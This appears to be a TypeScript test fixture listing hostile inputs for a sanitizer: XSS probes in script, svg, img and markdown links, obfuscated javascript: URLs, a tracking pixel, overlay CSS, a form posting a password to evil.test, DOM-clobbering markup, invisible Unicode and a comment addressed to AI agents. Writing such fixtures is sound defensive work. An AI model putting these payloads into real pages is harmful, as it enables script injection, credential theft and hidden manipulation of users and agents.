/** What a text may hold that is written to harm whoever shows it. None of it may run, load, hide or lead astray. */
export const HOSTILE_TEXT = [
  '# Harmless <script>alert(1)</script>',
  '<script>alert(1)</script>',
  '<svg onload="alert(1)"><use href="data:image/svg+xml,x"/></svg>',
  '<img src=x onerror="alert(1)"> ![pixel](https://tracker.test/pixel.png)',
  '[click](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>) <javascript:alert(1)>',
  '[vb](vbscript:x) [tab](java\tscript:alert(1)) [entity](javas&#99;ript:alert(1))',
  '<style>* { display: none }</style><p style="position:fixed">over everything</p>',
  '<base href="https://evil.test/"><iframe src="https://evil.test"></iframe><object data="x"></object>',
  '<form action="https://evil.test"><input name="password"></form>',
  '<!-- an agent reads this comment -->',
  'a\u202Eb\u200Bc\u{E0041}d',
  '<a id="content" name="location">clobber</a>',
  '</main></body></html><h1>after the end</h1>',
  `${'`'.repeat(3)}html\n<script>alert(1)</script>\n${'`'.repeat(3)}`,
  '[^1]: footnote <script>alert(1)</script>',
].join('\n\n')
